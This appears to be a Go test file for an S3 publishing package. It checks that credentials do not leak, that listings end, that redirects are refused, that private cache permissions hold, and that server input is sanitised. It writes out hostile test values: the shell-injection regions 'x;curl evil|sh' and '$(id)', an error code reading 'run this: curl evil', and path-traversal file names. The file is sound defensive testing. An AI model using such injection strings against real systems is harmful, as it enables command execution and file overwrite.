package upload

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"sandbox/internal/hint"
	"sandbox/repo/publish"
)

// Secrets of AWS have slashes in them, where an address has its path.
func TestParseShowsNoPassword(t *testing.T) {
	for _, text := range []string{"s3://AKID:hunt/er2@apps/repo", "ssh://me:hunt/er2@host/srv", "ssh://me:hunt?er2@host/srv", "s3://AKID:hunt#er2@apps", "s3://AKID:hunt@er2@apps/x", "s3://AKID:hunt%er2@apps/x"} {
		_, err := Parse(text)
		if err == nil {
			t.Errorf("%q is taken", text)
		} else if said := err.Error() + hint.Of(err); strings.Contains(said, "hunt") || strings.Contains(said, "er2") {
			t.Errorf("%q: %s", text, said)
		}
	}
	if _, err := Parse("s3://-apps/a@b"); err == nil || !strings.Contains(err.Error(), "s3://-apps/a@b") {
		t.Errorf("what holds no password: %v", err)
	}
}

// listings has the server answer requests for listings by page, n from 1.
func listings(s *s3Server, page func(n int) string) {
	count := 0
	s.before = func(_ int, w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Query().Get("list-type") == "" {
			return true
		}
		s.mu.Lock()
		count++
		n := count
		s.mu.Unlock()
		fmt.Fprintf(w, "<ListBucketResult>%s</ListBucketResult>", page(n))
		return false
	}
}

const enough = 3000 // pages that somebody reads who reads for ever

func TestS3ListingEnds(t *testing.T) {
	one := "<Contents><Key>a%20prefix%2B1/repo/x</Key><Size>1</Size></Contents><EncodingType>url</EncodingType>"
	for name, page := range map[string]func(n int) string{
		"empty pages": func(n int) string {
			return fmt.Sprintf("<IsTruncated>%t</IsTruncated><NextContinuationToken>t%d</NextContinuationToken>", n < enough, n)
		},
		"the same page": func(n int) string {
			return fmt.Sprintf("%s<IsTruncated>%t</IsTruncated><NextContinuationToken>t%d</NextContinuationToken>", one, n < enough, n)
		},
	} {
		s := newS3Server(t)
		p := s.server().open(t, t.TempDir())
		listings(s, page)
		if _, err := p.list(context.Background()); err == nil {
			t.Errorf("%s: read to their end", name)
		}
	}
	s := newS3Server(t)
	p := s.server().open(t, t.TempDir())
	listings(s, func(n int) string { // an empty one is allowed
		if n == 2 {
			return "<IsTruncated>true</IsTruncated><NextContinuationToken>u</NextContinuationToken>"
		}
		return fmt.Sprintf("%s<IsTruncated>%t</IsTruncated><NextContinuationToken>t%d</NextContinuationToken>", one, n < 3, n)
	})
	if files, err := p.list(context.Background()); err != nil || len(files) != 1 {
		t.Errorf("%v, %v", files, err)
	}
}

// What a server says is a region gets into a command that users copy.
func TestS3RegionIsAWord(t *testing.T) {
	s := newS3Server(t)
	p := s.server().open(t, t.TempDir())
	for region, named := range map[string]bool{"eu-north-1": true, "x;curl evil|sh": false, "$(id)": false, strings.Repeat("a", 100): false} {
		s.before = func(_ int, w http.ResponseWriter, _ *http.Request) bool {
			w.Header().Set("X-Amz-Bucket-Region", region)
			s.fault(w, 301, "PermanentRedirect", "")
			return false
		}
		_, err := p.list(context.Background())
		if way := hint.Of(err); err == nil || way == "" || strings.Contains(way, region) != named {
			t.Errorf("%q: %v (hint %q)", region, err, way)
		}
	}
}

func TestS3FaultIsShort(t *testing.T) {
	s := newS3Server(t)
	p := s.server().open(t, t.TempDir())
	for code, kept := range map[string]bool{"AccessDenied": true, strings.Repeat("x", 10000): false, "run this: curl evil": false} {
		s.before = func(_ int, w http.ResponseWriter, _ *http.Request) bool {
			s.fault(w, 403, code, "")
			return false
		}
		if _, err := p.list(context.Background()); err == nil || strings.Contains(err.Error(), code) != kept {
			t.Errorf("%.20s: %.200v", code, err)
		}
	}
}

// A lock with a part of our token is not ours.
func TestLockOfALookalike(t *testing.T) {
	s := newS3Server(t)
	o := start(t, s.server())
	p := s.server().open(t, t.TempDir())
	put(t, p, o, newBundle(t, appID, "1", 10))
	collect(p, o) // leaves a token
	token := p.token()
	if len(token) < 16 {
		t.Fatalf("token %q", token)
	}
	key := "a prefix+1/repo/" + lockFile
	held := func() bool {
		s.mu.Lock()
		defer s.mu.Unlock()
		_, there := s.objects[key]
		return there
	}
	for text, ours := range map[string]bool{token[:4]: false, token: true} {
		s.mu.Lock()
		s.objects[key] = object{data: fmt.Appendf(nil, `{"token":%q,"who":"eve"}`, text)}
		s.mu.Unlock()
		p.patience = 0
		var w watch
		for range 2 {
			p.heed(context.Background(), &w, p.token(), nil)
		}
		if held() == ours {
			t.Errorf("token %.4s…: held afterwards: %v", text, !ours)
		}
	}
}

// A pack of another length than releases say is not fetched.
func TestS3PackHasGrown(t *testing.T) {
	s := newS3Server(t)
	o := start(t, s.server())
	put(t, s.server().open(t, t.TempDir()), o, newBundle(t, appID, "1", 1000))
	p := s.server().open(t, t.TempDir())
	var name string
	for key, data := range s.state("a prefix+1/repo/") {
		if stageOf(key, false) == stagePack {
			name = key
			s.objects["a prefix+1/repo/"+key] = object{data: append(data, make([]byte, 1<<20)...)}
		}
	}
	s.log = nil
	err := p.Change(context.Background(), o, false, func(r *publish.Repository) error {
		return r.Elsewhere.Fetch(context.Background(), name, int64(len(s.objects["a prefix+1/repo/"+name].data))-1<<20)
	})
	if err == nil || !strings.Contains(err.Error(), "damaged") || strings.Contains(strings.Join(s.log, " "), "GET a prefix+1/repo/pack/") {
		t.Errorf("%v, after %v", err, s.log)
	}
}

// Files that any server can think of names for do not fill the disk here.
func TestS3ManyRemotes(t *testing.T) {
	s := newS3Server(t)
	o := start(t, s.server())
	add := func(n int) {
		for i := range n {
			s.objects[fmt.Sprintf("a prefix+1/repo/x%d.sandboxremote", i)] = object{data: []byte("{}")}
		}
	}
	add(5)
	put(t, s.server().open(t, t.TempDir()), o, newBundle(t, appID, "1", 10))
	add(maxChanging + 1)
	if _, err := tryPut(s.server().open(t, t.TempDir()), o, newBundle(t, appID, "2", 10)); err == nil || !strings.Contains(err.Error(), "sandboxremote") {
		t.Error(err)
	}
}

// What a server says it has is compared with the disk before any of it comes.
func TestCopyFits(t *testing.T) {
	if err := roomFor(1<<20, 1<<30, "/cache"); err != nil {
		t.Error(err)
	}
	for _, need := range []int64{1 << 30, 1 << 62, -1} {
		if err := roomFor(need, 1<<30, "/cache"); err == nil || hint.Of(err) == "" || !strings.Contains(err.Error(), "/cache") {
			t.Errorf("%d: %v", need, err)
		}
	}
	s := newS3Server(t)
	o := start(t, s.server())
	p := s.server().open(t, t.TempDir())
	put(t, p, o, newBundle(t, appID, "1", 10))
	listings(s, func(int) string {
		var b strings.Builder
		b.WriteString("<Contents><Key>a prefix+1/repo/sandbox-repo.json</Key><Size>1</Size></Contents>")
		for i := range 60000 { // of 64 MB each
			fmt.Fprintf(&b, "<Contents><Key>a prefix+1/repo/%s</Key><Size>%d</Size></Contents>", hashName("man", fmt.Sprint(i)), maxCopied)
		}
		return b.String()
	})
	s.log = nil
	if _, err := p.pull(context.Background()); !errors.Is(err, errRoom) {
		t.Errorf("%v", err)
	}
	for _, l := range s.log {
		if strings.Contains(l, "/man/") {
			t.Fatalf("asked for %s", l)
		}
	}
}

// Who publishes by http through a network is told what that means.
func TestPlainHTTPIsWarnedOf(t *testing.T) {
	s := newS3Server(t)
	for endpoint, warned := range map[string]bool{"http://s3.example.org": true, "http://192.0.2.1:9000": true, "https://s3.example.org": false, "http://localhost:9000": false, "http://127.0.0.1:9000": false, "http://[::1]:9000": false, "": false} {
		env := s.environ()
		env["AWS_ENDPOINT_URL_S3"] = endpoint
		p := s3PlaceWith(t, env, "s3://apps/repo", t.TempDir())
		said := ""
		done, err := p.claim(context.Background(), publish.Options{Progress: func(e publish.Event) {
			if e.Warning {
				said += e.Text
			}
		}})
		if err != nil {
			t.Fatal(err)
		}
		done()
		if strings.Contains(said, "https://") != warned {
			t.Errorf("%q: warned %q", endpoint, said)
		}
	}
}

// Names with a way out of the working copy are passed over.
func TestNamesStayInside(t *testing.T) {
	s := newS3Server(t)
	o := start(t, s.server())
	cache := t.TempDir()
	for _, name := range []string{"../../../../up.sandboxremote", "man/../../../../x", "meta/1.../../x.json", "meta/../1.root.json", "//x.sandboxremote", ".publish/../x.sandboxremote", "a\x00.sandboxremote", "man/aa/../" + strings.Repeat("a", 64)} {
		s.objects["a prefix+1/repo/"+name] = object{data: []byte("evil")}
	}
	p := s.server().open(t, cache)
	put(t, p, o, newBundle(t, appID, "1", 10))
	have, err := p.names()
	if err != nil {
		t.Fatal(err)
	}
	for name := range have {
		if data, _ := os.ReadFile(p.file(name)); string(data) == "evil" {
			t.Errorf("%q is in the copy", name)
		}
	}
}

// A signature is not taken to where a server points.
func TestS3RedirectIsNotFollowed(t *testing.T) {
	s, other := newS3Server(t), newS3Server(t)
	p := s.server().open(t, t.TempDir())
	came := 0
	other.before = func(int, http.ResponseWriter, *http.Request) bool { came++; return true }
	for _, status := range []int{301, 302, 307, 308} {
		s.before = func(_ int, w http.ResponseWriter, r *http.Request) bool {
			u, _ := url.Parse(other.URL)
			u.Path, u.RawQuery = r.URL.Path, r.URL.RawQuery
			http.Redirect(w, r, u.String(), status)
			return false
		}
		if _, err := p.list(context.Background()); err == nil {
			t.Errorf("%d is followed", status)
		}
		err := p.put(context.Background(), step{name: "timestamp.json"}, bytesOf([]byte("{}")), nil)
		if err == nil {
			t.Errorf("%d is followed with a file", status)
		}
	}
	if came != 0 {
		t.Errorf("%d requests came there", came)
	}
}

// A working copy that others can write to, or that is somebody else's, is not used:
// what lies in it is published.
func TestCopyIsPrivate(t *testing.T) {
	s := newS3Server(t)
	claim := func(p *Place) error {
		done, err := p.claim(context.Background(), publish.Options{})
		if err == nil {
			done()
		}
		return err
	}
	for name, harm := range map[string]func(p *Place) error{
		"open to others":        func(p *Place) error { return os.Chmod(p.home, 0o777) },
		"below one open to all": func(p *Place) error { return os.Chmod(filepath.Dir(p.home), 0o777) },
		"a link": func(p *Place) error {
			there := t.TempDir()
			return errors.Join(os.RemoveAll(p.home), os.Symlink(there, p.home))
		},
	} {
		p := s.server().open(t, t.TempDir())
		if err := claim(p); err != nil {
			t.Fatal(err)
		}
		if err := harm(p); err != nil {
			t.Fatal(err)
		}
		if err := claim(p); err == nil {
			t.Errorf("%s: used", name)
		}
	}
	p := s.server().open(t, t.TempDir())
	for range 2 {
		if err := claim(p); err != nil {
			t.Error(err)
		}
	}
	if st, err := os.Stat(p.home); err != nil || st.Mode().Perm() != 0o700 {
		t.Errorf("%v, %v", st.Mode(), err)
	}
}

// A server that contradicts itself about the lock is not asked for ever.
func TestLockOfALiar(t *testing.T) {
	s := newS3Server(t)
	o := start(t, s.server())
	cache := t.TempDir()
	p := s.server().open(t, cache)
	put(t, p, o, newBundle(t, appID, "1", 10))
	collect(p, o) // leaves a token
	key := "a prefix+1/repo/" + lockFile
	for name, lie := range map[string]func(w http.ResponseWriter, r *http.Request) bool{
		"there, and not to be read": func(w http.ResponseWriter, r *http.Request) bool {
			if r.Method == "GET" {
				s.fault(w, 404, "NoSuchKey", "")
			}
			return r.Method != "GET"
		},
		"our own, and not to be lifted": func(w http.ResponseWriter, r *http.Request) bool {
			return r.Method != "DELETE"
		},
	} {
		asked := 0
		before := func(_ int, w http.ResponseWriter, r *http.Request) bool {
			if !strings.HasSuffix(r.URL.Path, lockFile) {
				return true
			}
			s.mu.Lock()
			if asked++; asked > enough { // it gives in
				delete(s.objects, key)
				s.before = nil
			}
			s.mu.Unlock()
			return asked > enough || lie(w, r)
		}
		for what, do := range map[string]func() error{
			"publish": func() error { _, err := tryPut(p, o, newBundle(t, appID, "2", 10)); return err },
			"gc":      func() error { _, err := collect(p, o); return err },
		} {
			asked = 0
			s.mu.Lock()
			s.before = before
			s.objects[key] = object{data: fmt.Appendf(nil, `{"token":%q,"who":"me"}`, strings.Fields(p.token())[0])}
			s.mu.Unlock()
			if err := do(); err == nil || asked > enough {
				t.Errorf("%s, %s: %v after %d requests", name, what, err, asked)
			}
		}
	}
	s.before = nil
	put(t, s.server().open(t, cache), o, newBundle(t, appID, "3", 10))
}
